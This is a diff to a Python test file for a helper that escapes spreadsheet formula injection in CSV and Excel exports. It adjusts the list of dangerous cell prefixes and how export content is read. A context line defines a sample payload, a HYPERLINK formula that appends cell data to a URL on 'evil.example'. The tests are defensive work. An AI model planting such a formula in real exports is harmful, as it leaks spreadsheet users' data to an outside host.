@@ -17,7 +17,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
 @pytest.mark.parametrize(
-    "start", [*"=+-@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "−", " =", "\ufeff=", "\u200b@", "'="]
+    "start", [*"=+-@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "−", " =", "\ufeff=", "\u200b@"]
 )
 def test_what_a_spreadsheet_would_work_out_is_text(start: str) -> None:
     assert harmless(f"{start}1+1") == f"'{start}1+1"
@@ -32,8 +32,7 @@ def test_what_it_would_not_is_left_alone(cell: Any) -> None:
 
 def cells(response: Any) -> list[str]:
     """All cells of an export, its headings first."""
-    content = b"".join(response.streaming_content)
-    response.close()
+    content = response.getvalue()
     if response["Content-Type"] == "text/csv":
         return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
     rows = load_workbook(io.BytesIO(content)).active.iter_rows()
